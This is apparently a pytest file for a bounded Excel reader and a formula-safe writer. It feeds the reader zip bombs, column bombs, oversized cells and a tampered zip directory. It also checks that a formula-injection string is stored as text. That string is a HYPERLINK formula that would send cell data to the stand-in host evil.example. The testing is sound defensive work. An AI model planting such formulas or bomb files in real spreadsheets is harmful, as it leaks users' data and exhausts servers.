"""The bounded .xlsx reader (hostile files refused before they cost memory or time, each with a Chinese
message naming the bound) and the formula-safe writer."""

from __future__ import annotations

import datetime as dt
import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from pufa.core import spreadsheets
from pufa.core.spreadsheets import SpreadsheetError, read_xlsx, safe_cell, safe_row, write_cell
from tests import hostile

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _refused(data: bytes, *, max_rows: int = 100, max_cols: int = 20) -> tuple[str, float, int]:
    """(the error message, seconds, peak traced bytes) of reading `data`, which must be refused."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(SpreadsheetError) as caught:
            read_xlsx(io.BytesIO(data), max_rows=max_rows, max_cols=max_cols)
        return str(caught.value), time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_reader_agrees_with_openpyxl_on_an_ordinary_workbook(tmp_path):
    workbook = Workbook()
    ws = workbook.active
    ws.title = "工作台账"
    ws.append(["文字", "数字", "小数", "日期", "布尔", None, "公式"])
    ws.append(["沱河社区", 42, 3.5, dt.date(2026, 3, 15), True, None, "=B2*2"])
    ws["A4"] = "隔一行"
    ws["C4"] = "跳一列"
    workbook.create_sheet("其他")["A1"] = "不读这张表"
    path = tmp_path / "book.xlsx"
    workbook.save(path)
    with path.open("rb") as f:
        sheet = read_xlsx(f, max_rows=10, max_cols=10, sheet="工作台账")
    assert sheet.name == "工作台账"
    assert [n for n, _ in sheet.rows] == [1, 2, 4]
    assert sheet.rows[0][1] == ["文字", "数字", "小数", "日期", "布尔", None, "公式"]
    _, values, gap = (r for _, r in sheet.rows)
    assert values[:3] == ["沱河社区", 42, 3.5] and isinstance(values[1], int) and values[4] is True
    assert values[3] in (dt.date(2026, 3, 15), dt.datetime(2026, 3, 15))
    assert gap == ["隔一行", None, "跳一列"]


def test_a_sheet_starting_right_and_down_keeps_its_positions():
    data = hostile.xlsx(
        '<sheetData><row r="3"><c r="C3" t="inlineStr"><is><t>表头</t></is></c></row>'
        '<row r="5"><c r="D5"><v>1</v></c></row></sheetData>'
    )
    assert read_xlsx(data, max_rows=10, max_cols=10).rows == [(3, [None, None, "表头"]), (5, [None, None, None, 1])]


def test_column_bomb_is_refused_before_reading():
    message, seconds, peak = _refused(hostile.column_bomb("ZZZZZ"))
    assert "超过 20 列" in message
    assert seconds < 1 and peak < 5 * 1024 * 1024
    message, *_ = _refused(hostile.column_bomb("ZZZ"))  # a valid column, still beyond the bound
    assert "超过 20 列" in message


def test_formatting_far_right_or_down_is_not_a_value_and_passes():
    data = hostile.xlsx(
        '<sheetData><row r="1"><c r="A1"><v>7</v></c><c r="XFD1" s="1"/></row>'
        '<row r="900000"><c r="A900000" s="1"/></row></sheetData>'
    )
    assert read_xlsx(data, max_rows=10, max_cols=5).rows == [(1, [7])]


def test_rows_dimension_and_cell_references_are_bounded():
    far_down = hostile.xlsx('<sheetData><row r="102"><c r="A102"><v>1</v></c></row></sheetData>')
    assert "超过 100 行" in _refused(far_down)[0]
    assert read_xlsx(
        hostile.xlsx('<sheetData><row r="101"><c r="A101"><v>1</v></c></row></sheetData>'), max_rows=100, max_cols=5
    ).rows == [(101, [1])]
    dimension = hostile.xlsx('<dimension ref="A1:XFD1048576"/><sheetData/>')
    assert "超过 100 行" in _refused(dimension)[0]
    assert "超过 20 列" in _refused(hostile.xlsx('<dimension ref="A1:ZZ3"/><sheetData/>'))[0]
    assert "单元格位置“1A”无效" in _refused(hostile.xlsx('<sheetData><row><c r="1A"><v>1</v></c></row></sheetData>'))[0]
    no_refs = "".join("<c><v>1</v></c>" for _ in range(21))
    assert "超过 20 列" in _refused(hostile.xlsx(f"<sheetData><row>{no_refs}</row></sheetData>"))[0]


def test_shared_strings_bomb_is_refused_from_the_zip_directory():
    data = hostile.shared_strings_bomb(2000, 1024 * 1024)  # 2 GB unpacked
    assert len(data) < 20 * 1024 * 1024  # fits under the upload cap
    message, seconds, peak = _refused(data)
    assert "文件解压后超过 50 MB" in message
    assert seconds < 1 and peak < 2 * len(data) + 5 * 1024 * 1024


def test_oversized_cells_are_refused():
    one_long = hostile.shared_strings_bomb(1, 40_000)
    assert "超过 32,767 个字符" in _refused(one_long)[0]
    inline = hostile.xlsx(
        f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{"法" * 40_000}</t></is></c></row></sheetData>'
    )
    assert "超过 32,767 个字符" in _refused(inline)[0]


def test_a_part_larger_than_declared_never_reaches_the_reader():
    """A part whose real content is longer than its declared size (so the directory check passes) fails the
    CRC check of Python's zipfile — calamine only ever sees the repacked, checked bytes."""
    data = bytearray(hostile.xlsx('<sheetData><row r="1"><c r="A1"><v>12345</v></c></row></sheetData>'))
    target = b"xl/worksheets/sheet1.xml"
    position = zipfile.ZipFile(io.BytesIO(bytes(data))).start_dir
    while data[position + 46 : position + 46 + len(target)] != target:
        position = data.index(b"PK\x01\x02", position + 4)
    declared = int.from_bytes(data[position + 24 : position + 28], "little")
    data[position + 24 : position + 28] = (declared - 10).to_bytes(4, "little")  # the central directory's size
    assert "压缩包已损坏" in _refused(bytes(data))[0]


def test_broken_and_foreign_files_get_chinese_errors():
    broken = hostile.xlsx('<sheetData><row r="1"><c r="A1"><v>1</v></c></row>')  # </sheetData> missing
    assert "XML 格式错误" in _refused(broken)[0]
    assert "不是有效的 Excel" in _refused(b"PK\x03\x04 broken")[0]
    assert "不是有效的 Excel" in _refused(b"just text")[0]
    entity = hostile.xlsx('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>')
    assert "无法读取文件" in _refused(entity)[0]
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as z:
        for n in range(spreadsheets.MAX_PARTS + 1):
            z.writestr(f"x/{n}.xml", "")
    assert "超过 500 个部件" in _refused(many.getvalue())[0]


# ---------------------------------------------------------------- writing


@pytest.mark.parametrize("write_only", [False, True])
def test_safe_cell_writes_formula_like_text_as_text_and_numbers_as_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    ws = workbook.create_sheet("表")
    texts = [EVIL, "+86 555", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "普通文字"]
    ws.append(safe_row(ws, [*texts, 42, 3.5, dt.date(2026, 1, 2), None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue()))["表"][1]
    assert [c.value for c in cells[: len(texts)]] == texts
    assert all(c.data_type == "s" for c in cells[: len(texts)])
    assert all(c.quotePrefix for c in cells[:6]) and not cells[6].quotePrefix
    assert [c.value for c in cells[7:9]] == [42, 3.5] and cells[7].data_type == "n"
    assert safe_cell(ws, 5) == 5 and safe_cell(ws, "文字") == "文字"


def test_write_cell_neutralises_random_access_cells():
    workbook = Workbook()
    ws = workbook.active
    write_cell(ws, 3, 2, EVIL)
    write_cell(ws, 4, 2, 7)
    buffer = io.BytesIO()
    workbook.save(buffer)
    ws = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert ws["B3"].value == EVIL and ws["B3"].data_type == "s" and ws["B4"].value == 7
